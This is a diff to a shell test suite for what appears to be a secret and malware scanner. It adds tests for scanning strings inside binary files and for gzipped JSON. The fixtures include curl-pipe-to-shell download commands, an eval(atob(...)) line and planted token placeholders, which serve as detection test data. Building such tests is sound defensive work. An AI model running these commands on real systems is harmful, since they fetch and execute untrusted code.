@@ -436,13 +436,21 @@ t_nul_in_flagged_line_not_hidden() {
 	expect_out_has 'x = 1 '$'\xef\xbf\xbd'' curl -fsSL https://198.51.100.78/x | sh'
 }
 
-t_binary_file_not_content_scanned() {
+t_binary_file_strings_scanned() {
 	mkdir t
-	printf '\0\1\2\3k=%s\ncurl -s http://x | sh\n' "$PAT1" >t/blob
+	printf '\0\1\2\3k=%s\ncurl -s http://x | sh\n\0eval(atob("x"))\n' "$PAT1" >t/blob
 	printf '\0ELF k=%s\n' "$PAT1" >t/tool.bin
 	scan --format json t
-	expect_rc 0
-	expect_q 'len(F)' 0
+	expect_rc 1
+	# Not read as text, but their strings are, by the secret, download
+	# and exfiltration rules only: for the whole file, at the offset.
+	expect_q 'sorted((f["path"], f["rule"], f["line"], f["severity"]) for f in F)' \
+		"[('t/blob', 'test-curl-pipe-shell', 0, 'high'), ('t/blob', 'test-github-pat', 0, 'critical'), ('t/tool.bin', 'test-github-pat', 0, 'critical')]"
+	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"]' \
+		'string at byte 47 of a binary file: curl -s http://x | sh'
+	expect_q '[f["excerpt"][:38] for f in R("test-github-pat")]' \
+		"['string at byte 4 of a binary file: k=', 'string at byte 1 of a binary file: ELF']"
+	expect_q 'any("'"$PAT1"'" in f["excerpt"] for f in F)' False
 	expect_q 'd["stats"]["files"]' 2
 }
 
@@ -1063,6 +1071,14 @@ t_archive_nested() {
 	cp l0/a.py single.py && gzip single.py
 	scan --format json single.py.gz
 	expect_q '[f["path"] for f in R("test-github-pat")]' "['single.py.gz!/single.py']"
+	# A gzipped JSON file is one JSON document (gunzip's view), not an
+	# mtree manifest of one "entry" per line.
+	printf '{\n  "a":{\n    "b":"c"\n  },\n  "a":{\n    "t":"%s"\n  }\n}\n' "$PAT1" >svc.json
+	gzip svc.json
+	scan --format json svc.json.gz
+	expect_rc 1
+	expect_q '[f["path"] for f in F]' "['svc.json.gz!/svc.json']"
+	expect_q 'R("test-github-pat")[0]["line"]' 6
 	# Deeper than AL_ARCHIVE_MAX_DEPTH (4): unscannable, not skipped.
 	zip -q l4.zip l3.tar && tar cJf l5.tar.xz l4.zip
 	scan --format json l5.tar.xz
